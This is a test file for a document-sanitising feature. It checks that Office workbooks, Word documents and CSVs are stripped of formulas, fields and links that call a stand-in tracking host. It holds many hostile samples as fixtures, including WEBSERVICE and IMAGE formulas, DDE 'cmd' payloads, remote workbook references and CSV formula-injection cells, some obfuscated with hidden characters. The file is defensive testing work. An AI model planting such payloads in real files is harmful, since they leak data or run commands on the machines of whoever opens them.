import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import type { FileAuthor } from '#features/files/domain/cleaning.ts'
import { clean } from '#features/files/server/cleaning/clean.ts'
import { hiddenCharacters } from '../harness/hidden-characters.ts'
import { secretsIn } from './fixtures/hunt.ts'
import { body, docx, namespaces, relations, xlsx, type Parts } from './fixtures/office-parts.ts'

const nobody: FileAuthor = { names: [], emails: [], phones: [], ruts: [], websites: [] }
/** Not the author's own site, which a file is read for. */
const host = 'medidor.example'
const address = `https://t.${host}/vio?licitacion=1`
const { office } = namespaces

const cleaned = async (bytes: Uint8Array<ArrayBuffer>) => {
  const result = await clean({ bytes, visibility: 'now', author: nobody })
  if (!result.ok) throw new Error(result.refusal)
  return result
}

const formula = (f: string): Parts => ({
  'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row r="1"><c r="A1" t="str"><f>${f}</f><v>Visto</v></c></row></sheetData></worksheet>`,
})
const workbooks: Readonly<Record<string, Parts>> = {
  'a picture of the web': formula(`_xlfn.IMAGE(&quot;${address}&quot;)`),
  'a service of the web': formula(`1+_xlfn.WEBSERVICE (&quot;${address}&amp;de=&quot;&amp;A1)`),
  'a name of a function in pieces': formula(`_xlfn.WEB<!-- x -->SER<![CDATA[VICE("${address}")]]>`),
  'another program': formula(`cmd|'/c ${host}'!A0`),
  'a workbook of a server': formula(`'https://t.${host}/[x.xlsx]Hoja1'!A1`),
  'a workbook of a server, its whole address in brackets': formula(`'[https://t.${host}/x.xlsx]Hoja1'!A1`),
  'such a workbook without quotes': formula(`SUM([https://t.${host}/x.xlsx]Hoja1!A1:B9)`),
  'such a workbook in a text': formula(`INDIRECT(&quot;'[https://t.${host}/x.xlsx]Hoja1'!A1&quot;)`),
  'a workbook of another machine': formula(`'\\\\t.${host}\\vio\\[x.xlsx]Hoja1'!A1`),
  'a service that another function calls': formula(`_xlfn.MAP(&quot;${address}&quot;,_xleta.WEBSERVICE)`),
  'a service by another name': formula(`_xlfn.LET(_xlpm.f,WEBSERVICE,_xlpm.f(&quot;${address}&quot;))`),
  'a list of the web in a spreadsheet of the web': formula(
    `IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""${address}"",""//a"")"),"1")`,
  ),
  'a name that stands for a formula': {
    'xl/workbook.xml': `<workbook><sheets><sheet name="Rubros" sheetId="1"/></sheets><definedNames><definedName name="iva">_xlfn.WEBSERVICE("${address}")</definedName></definedNames></workbook>`,
  },
  'a table of the web that refreshes itself': {
    'xl/connections.xml': `<connections><connection id="1" type="4" name="x" refreshOnLoad="1" interval="1"><webPr xl2000="1" url="${address}"/></connection></connections>`,
  },
}
const begin = '<w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>'
const result = '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Visto</w:t></w:r>'
const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
const order = (...pieces: readonly string[]) =>
  begin + pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('') + result + end
const documents: Readonly<Record<string, string>> = {
  'a field': order(` INCLUDEPICTURE "${address}" \\d `),
  'a field in pieces': order(' INC', 'LUDEPICTURE "', address, '" \\d '),
  'a field whose order stands in a plain text': `${begin}<w:r><w:t> INCLUDEPICTURE "${address}" \\d </w:t></w:r>${result}${end}`,
  'a field whose name another field makes': `${begin}${order(' QUOTE INCLUDEPICTURE ')}<w:r><w:instrText> "${address}" </w:instrText></w:r>${result}${end}`,
  'a simple field': `<w:fldSimple w:dirty="true" w:instr=" INCLUDEPICTURE &quot;${address}&quot; \\d "><w:r><w:t>Visto</w:t></w:r></w:fldSimple>`,
}

describe('a copy fetches nothing when it is opened, shows what it showed, and its author is told', () => {
  test.each(Object.entries(workbooks))('a workbook with %s', async (_, parts) => {
    const { bytes, warnings } = await cleaned(xlsx(parts))
    expect(secretsIn(bytes, [host, 'refreshOnLoad="1"'])).toEqual([])
    expect(warnings).toEqual([{ code: 'FILE_FETCHES' }])
    if ('xl/worksheets/sheet1.xml' in parts)
      expect(strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml']!)).toContain('<f>"retirado"</f><v>Visto</v>')
  })

  test.each(Object.entries(documents))('a text document with %s', async (_, inner) => {
    const { bytes, warnings } = await cleaned(await docx({ 'word/document.xml': body(inner) }))
    expect(secretsIn(bytes, [host])).toEqual([])
    expect(warnings).toEqual([{ code: 'FILE_FETCHES' }])
    expect(strFromU8(unzipSync(bytes)['word/document.xml']!)).toContain('<w:t>Visto</w:t>')
  })
})

describe('no picture of a copy is stored elsewhere', () => {
  test('of a text document, not even under a link to a page', async () => {
    const { bytes } = await cleaned(
      await docx({
        'word/document.xml': body(
          `<a:blip r:embed="rId1" r:link="rId9"/><v:imagedata xmlns:v="v" r:id="rId1" r:href="rId9" src="${address}"/><v:fill xmlns:v="v" src="${address}"/>`,
        ),
        'word/_rels/document.xml.rels': relations(
          `<Relationship Id="rId1" Type="${office}/image" Target="media/image1.jpeg"/>`,
          `<Relationship Id="rId9" Type="${office}/hyperlink" Target="https://fabricante.example" TargetMode="External"/>`,
        ),
      }),
    )
    expect(secretsIn(bytes, [host])).toEqual([])
    const whole = strFromU8(unzipSync(bytes)['word/document.xml']!)
    expect(whole).toContain('<a:blip r:embed="rId1"/><v:imagedata xmlns:v="v" r:id="rId1"/>')
  })

  test('of a workbook whose pictures came from the web', async () => {
    const { bytes } = await cleaned(
      xlsx({
        'xl/_rels/workbook.xml.rels': relations(
          `<Relationship Id="rId1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/>`,
          `<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2020/07/relationships/rdrichvaluewebimage" Target="richData/fotos.xml"/>`,
        ),
        'xl/richData/fotos.xml': `<webImagesSrd xmlns:r="${office}"><webImageSrd><address r:id="rId1"/></webImageSrd></webImagesSrd>`,
        'xl/richData/_rels/fotos.xml.rels': relations(
          `<Relationship Id="rId1" Type="${office}/hyperlink" Target="${address}" TargetMode="External"/>`,
        ),
      }),
    )
    expect(secretsIn(bytes, [host])).toEqual([])
  })
})

test('a document in which a page of another format stands is refused, because it would be read, or lost', async () => {
  const planted = await docx({
    'word/document.xml': body('<w:altChunk r:id="rId9"/>'),
    'word/pagina.html': `<html><body><img src="${address}"/></body></html>`,
    'word/_rels/document.xml.rels': relations(
      `<Relationship Id="rId9" Type="${office}/aFChunk" Target="pagina.html"/>`,
    ),
  })
  expect(await clean({ bytes: planted, visibility: 'now', author: nobody })).toEqual({
    ok: false,
    refusal: 'FILE_DAMAGED',
  })
})

test('formulas, links and field instructions that ask nobody stay as they are', async () => {
  const formulas = [
    'SUM(B2:B9)*1.22',
    '_xlfn.FILTERXML("&lt;a/>","//a")',
    'HYPERLINK("https://fabricante.example/ficha","Ficha")',
    'MIIMAGEN(A1)&amp;"https://fabricante.example"',
  ]
  for (const each of formulas) {
    const { bytes, warnings } = await cleaned(xlsx(formula(each)))
    expect(strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml']!)).toContain(
      `<f>${each.replace('/>"', '/&gt;"')}</f>`,
    )
    expect(warnings).toEqual([])
  }
  const instructions = [
    ' HYPERLINK "https://fabricante.example/ficha" ',
    ' DISPLAYBARCODE "https://fabricante.example" QR ',
  ]
  for (const each of instructions) {
    const { bytes, warnings } = await cleaned(await docx({ 'word/document.xml': body(order(each)) }))
    expect(strFromU8(unzipSync(bytes)['word/document.xml']!)).toContain(`<w:instrText>${each}</w:instrText>`)
    expect(warnings).toEqual([])
  }
})

describe('a CSV', () => {
  const copyOf = async (csv: string, encoding: BufferEncoding = 'utf8') => {
    const { bytes, warnings, type } = await cleaned(new Uint8Array(Buffer.from(csv, encoding)))
    expect(type).toBe('csv')
    return { csv: Buffer.from(bytes).toString(encoding), warnings }
  }

  test('calls nobody when a spreadsheet opens it: a cell that would begins with an apostrophe, and its author is told', async () => {
    const calling = [
      `=WEBSERVICE("${address}")`,
      `"=WEBSERVICE(""${address}"")"`,
      `=cmd|' /C calc'!A0`,
      `@SUM(1)`,
      `+1+IMAGE("${address}")`,
      `-cmd|' /C calc'!A0`,
      `  = 'https://t.${host}/[x.xlsx]Hoja1'!A1`,
      `="x"&'file:///c/x.csv'#$Hoja1.A1`,
      `＝HYPERLINK("${address}")`,
      `"=${' '.repeat(400)}WEBSERVICE(""${address}"")"`,
      `-${'0'.repeat(400)}+WEBSERVICE("${address}")`,
    ]
    for (const cell of calling) {
      const copy = await copyOf(`Ítem;Precio\n1;${cell}\n${cell};2\n`)
      const inert = cell.replace(/[=+@＝-]/, "'$&")
      expect(copy.csv).toBe(`Ítem;Precio\n1;${inert}\n${inert};2\n`)
      expect(copy.warnings).toEqual([{ code: 'FILE_FORMULAS_AS_TEXT' }])
    }
  })

  test('calls nobody behind characters that are not shown, in whatever encoding', async () => {
    const table = (cells: readonly string[]) => `Ítem;Precio\n${cells.map((cell) => `${cell};2\n`).join('')}`
    const hidden = [...hiddenCharacters, '\u2800', '\u2003']
    for (const encoding of ['utf8', 'utf16le'] as const) {
      const mark = encoding === 'utf8' ? '' : '\ufeff'
      const copy = await copyOf(mark + table(hidden.map((each) => `${each}=WEBSERVICE(1)`)), encoding)
      // What is drawn as nothing is not in the copy; blanks are.
      const blanks = hidden.map((each) => each.replace(/\p{Default_Ignorable_Code_Point}/gu, ''))
      expect(copy.csv).toBe(mark + table(blanks.map((each) => `${each}'=WEBSERVICE(1)`)))
    }
    const soft = await copyOf(table(['\u00ad=WEBSERVICE(1)']), 'latin1')
    expect(soft.csv).toBe(table(["\u00ad'=WEBSERVICE(1)"]))
  })

  test.each([
    [';', `+1:1,INDEX(WEBSERVICE("${address}"),1)`],
    [',', `+1:1;INDEX(WEBSERVICE("${address}");1)`],
    [',', `"-1:1;INDEX(WEBSERVICE(""${address}"");1)"`],
    [',', `-$A$1;INDEX(WEBSERVICE("${address}");1)`],
    [',', `+(A:A;INDEX(WEBSERVICE("${address}");1))`],
    [',', `+#REF!;INDEX(WEBSERVICE("${address}");1)`],
  ])('calls nobody where another separator than its own (%s) joins a call to a cell: %s', async (separator, cell) => {
    const table = (last: string) => `sep=${separator}\nPrecio${separator}${last}\n`
    expect((await copyOf(table(cell))).csv).toBe(table(cell.replace(/[+-]/, "'$&")))
  })

  test('keeps its numbers, telephones, plain texts and sums of cells, in its encoding, byte for byte', async () => {
    const rows = [
      ['Ítem', 'Precio', 'Nota'],
      ['Chapa', '-1.200,50', '- sin stock'],
      ['+598 99 123 456', '"-5 %"', '+ IVA'],
      ['=B2*C2', '-', '-----'],
      ['Caño', '- (5)', 'según lámina: ver (2)'],
      ['-10:30', '-A2', '+ flete'],
    ]
    for (const [separator, encoding] of [
      [';', 'utf8'],
      ['\t', 'latin1'],
    ] as const) {
      const csv = rows.map((row) => row.join(separator)).join('\r\n')
      expect(await copyOf(csv, encoding)).toEqual({ csv, warnings: [] })
    }
  })

  test.each(['\t', ';'])(
    "in UTF-16, as Excel saves 'Texto Unicode', is a CSV that asks nobody: cells apart by %j",
    async (mark) => {
      const call = `=WEBSERVICE("${address}")`
      const table = (cell: string) => `\ufeffÍtem${mark}Precio\r\nCaño${mark}5\r\n${cell}${mark}6\r\n`
      expect(await copyOf(table(call), 'utf16le')).toEqual({
        csv: table(`'${call}`),
        warnings: [{ code: 'FILE_FORMULAS_AS_TEXT' }],
      })
      expect(await copyOf(table('Codo'), 'utf16le')).toEqual({ csv: table('Codo'), warnings: [] })
    },
  )

  test('in UTF-16 of the other byte order is read too', async () => {
    const bytes = Buffer.from('\ufeffÍtem;Precio\n=WEBSERVICE(1);5\n', 'utf16le').swap16()
    const copy = await cleaned(new Uint8Array(bytes))
    expect([copy.type, Buffer.from(copy.bytes).toString('utf16le')]).toEqual([
      'csv',
      "\ufeffÍtem;Precio\n'=WEBSERVICE(1);5\n",
    ])
  })

  test('of one long line is read in time', async () => {
    const { csv, warnings } = await copyOf('a;b\n'.repeat(20) + '=1;'.repeat(300_000))
    expect(csv.length).toBeGreaterThan(900_000)
    expect(warnings).toHaveLength(1)
  })
})
